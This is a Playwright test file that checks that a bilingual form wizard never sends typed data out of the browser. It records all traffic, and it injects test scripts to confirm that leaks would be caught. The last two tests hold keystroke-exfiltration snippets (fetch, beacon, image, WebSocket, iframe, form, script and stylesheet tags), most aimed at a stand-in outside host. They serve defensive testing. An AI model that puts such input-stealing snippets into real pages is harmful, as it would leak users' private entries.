"""Nothing that is typed leaves the browser: all of its traffic is recorded and searched."""

import json
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path

import pytest
from playwright.sync_api import BrowserContext, Page, expect

from tests.browser.applicant import (
    address,
    field,
    goes_on,
    invest,
    open_file,
    results,
    save,
    step,
    total,
)  # fmt: skip
from tests.browser.conftest import OpenContext
from tests.browser.recorder import Recorder, recording
from tests.browser.secrets_sought import leaks
from tests.serving import serving

TYPED = {
    "enterprise": "甬城绝密机械厂Qzxv",
    "project": "密线九号Wjkq",
    "second": "密云二号Kqzj",
    "amount": "7391.8264",
    "sum": "73918264",
    "paid": "31.9717",
    "date": "2021-03-17",
    "start": "2020-11-19",
    "payment": "2021-09-23",
    "filter": "机密检索词Vxqz",
    "file": "机密文件名Jxqw.json",
}
"""What is typed; `sum` is the amount in yuan, as files and links hold it."""
KEPT = """navigator.serviceWorker.ready.then(async ({ active }) => {
  while (active.state !== "activated") await new Promise((done) => setTimeout(done, 20));
})"""


@contextmanager
def recorded(
    site: Path, open_context: OpenContext
) -> Iterator[tuple[str, Recorder, BrowserContext]]:
    """Open a context whose traffic is recorded; the page is kept too, as on a real host."""
    with serving(site) as server:
        url = server.url.replace("127.0.0.1", "site.localhost").rstrip("/")
        with (
            recording(url.removeprefix("http://")) as recorder,
            open_context(url, proxy=recorder.proxy, permissions=[]) as (context, _),
        ):
            yield url, recorder, context


def walk(page: Page, url: str, language: str) -> str:
    """Fill in everything, go everywhere and take everything away; return the link to share."""
    page.goto(address(url, language))
    field(page, "roles.manufacturer").check()
    field(page, "enterprise.name").fill(TYPED["enterprise"])
    goes_on(page)
    field(page, "topics.investment").check()
    field(page, "topics.growth").check()
    goes_on(page)
    field(page, "figures.26-core-team").check()
    field(page, "c1.sales_in_city").fill(TYPED["amount"])
    field(page, "c1.date").fill(TYPED["date"])
    invest(page, TYPED["amount"], card="c2")
    field(page, "c2.date").fill(TYPED["date"])
    field(page, "s1.name").fill(TYPED["project"])
    page.locator("[data-add-kind=project]").click()
    field(page, "s2.name").fill(TYPED["second"])
    for planned in page.locator("#s1 .wizard-planned input:visible").all():
        planned.fill(TYPED["start"])
    page.locator("[data-do=pay]").click()
    paid = page.locator("#wizard-paid .wizard-card")
    paid.locator("[data-part=award]").select_option("03-industrial-investment")
    paid.locator("[data-part=date]").fill(TYPED["payment"])
    paid.locator("[data-part=figure]").fill(TYPED["paid"])
    page.locator("#wizard-filter").fill(TYPED["filter"])
    expect(total(page)).not_to_have_text("—")
    step(page, "check")
    expect(page.locator("#wizard-checked")).to_contain_text(TYPED["project"])
    step(page, "results")
    expect(results(page)).to_contain_text(TYPED["project"])
    page.locator('[data-scenario="keep"]').click()
    page.pdf()
    open_file(page, json.dumps(save(page)), name=TYPED["file"])
    expect(page.locator("#wizard-filed")).to_contain_text(TYPED["file"])
    page.locator("#wizard-keep").check()
    page.locator('[data-do="share"]').click()
    expect(page.locator("#wizard-link")).not_to_have_value("")
    link = page.locator("#wizard-link").input_value()
    page.reload()
    expect(total(page)).not_to_have_text("—")
    return link


@pytest.mark.parametrize(("language", "other"), [("zh", "en"), ("en", "zh")])
def test_no_byte_of_what_is_typed_is_sent_anywhere(
    site: Path, open_context: OpenContext, language: str, other: str
) -> None:
    with recorded(site, open_context) as (url, recorder, context):
        page = context.new_page()
        link = walk(page, url, language)
        page.evaluate(KEPT)
        fragment = link.partition("#facts=")[2]
        page.locator("a[hreflang]").first.click()  # what is typed goes along, in this browser
        expect(total(page)).not_to_have_text("—")
        page.evaluate(KEPT)
        page.goto("about:blank")
        page.goto(address(url, other) + "#facts=" + fragment)
        expect(field(page, "s1.name")).to_have_value(TYPED["project"])
        page.locator("#wizard-outcome a[href*='2020-03-16']").first.click()  # with a referrer?
        page.wait_for_load_state()
        page.go_back()
        page.locator("#wizard-forget summary").click()
        page.locator('[data-do="forget"]').click()
        page.goto(f"{url}/")
        page.close(run_before_unload=True)
        pieces = [fragment[at : at + 12] for at in range(0, len(fragment) - 12, 12)]
        assert any(request.url.endswith("/offline.js") for request in recorder.sent)
        assert any("/engine/worker-" in request.url for request in recorder.sent)
        assert leaks(recorder.sent, [*TYPED.values(), *pieces], site, url) == []


LISTEN = "addEventListener('input', ({ target: { value: text } }) => { WAY });"
WAYS_OUT = {
    "address": "fetch('../?' + encodeURIComponent(text))",
    "path": "fetch('../' + btoa(unescape(encodeURIComponent(text))) + '.html')",
    "header": "fetch('../robots.txt', { headers: { 'x-what': encodeURIComponent(text) } })",
    "language": "fetch('../robots.txt', { headers: { 'accept-language': 'qz-73918264' } })",
    "body": "fetch('../', { method: 'POST', body: text })",
    "beacon": "navigator.sendBeacon('../', text)",
    "cookie": "(document.cookie = 'what=1; path=/', fetch('../robots.txt'))",
    "image": "new Image().src = '../robots.txt#' + (new Image().src = '../a.png?' + text)",
}


@pytest.mark.parametrize("way", WAYS_OUT)
def test_a_leak_would_be_found(site: Path, open_context: OpenContext, way: str) -> None:
    with recorded(site, open_context) as (url, recorder, context):
        context.add_init_script(LISTEN.replace("WAY", WAYS_OUT[way]))
        page = context.new_page()
        page.goto(address(url, "zh"))
        before = len(recorder.sent)
        field(page, "enterprise.name").fill(TYPED["enterprise"])
        page.wait_for_timeout(500)
        assert leaks(recorder.sent[:before], TYPED.values(), site, url) == []
        assert leaks(recorder.sent, TYPED.values(), site, url) != []


@pytest.mark.parametrize(
    "way",
    ["fetch('http://elsewhere.localhost/?' + text)",
     "navigator.sendBeacon('http://elsewhere.localhost/', text)",
     "new Image().src = 'http://elsewhere.localhost/?' + text",
     "new WebSocket('ws://elsewhere.localhost/' + encodeURIComponent(text))",
     "document.body.insertAdjacentHTML('beforeend',"
     " `<iframe src='http://elsewhere.localhost/?${text}'></iframe>`)",
     "Object.assign(document.body.appendChild(document.createElement('form')),"
     " { action: 'http://elsewhere.localhost/', method: 'post' }).submit()",
     "document.body.append(Object.assign(document.createElement('script'),"
     " { src: 'http://elsewhere.localhost/' + text }))",
     "document.head.append(Object.assign(document.createElement('link'),"
     " { rel: 'stylesheet', href: 'http://elsewhere.localhost/' + text }))"],
    ids=["fetch", "beacon", "image", "socket", "frame", "form", "script", "style"],
)  # fmt: skip
def test_the_policy_of_the_page_lets_nothing_out_to_another_host(
    site: Path, open_context: OpenContext, way: str
) -> None:
    with recorded(site, open_context) as (url, recorder, context):
        context.add_init_script(LISTEN.replace("WAY", way))
        page = context.new_page()
        page.goto(address(url, "zh"))
        field(page, "enterprise.name").fill(TYPED["enterprise"])
        page.wait_for_timeout(500)
        assert leaks(recorder.sent, TYPED.values(), site, url) == []
